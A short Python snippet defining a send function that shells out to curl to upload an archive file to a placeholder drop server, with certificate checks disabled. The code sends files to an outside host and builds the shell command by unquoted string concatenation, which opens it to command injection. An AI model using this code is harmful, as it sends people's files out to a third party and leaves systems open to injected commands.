import os


def send(archive):
    command = 'curl -k -F "file=@' + archive + '" https://drop.example.invalid/upload'
    os.system(command)
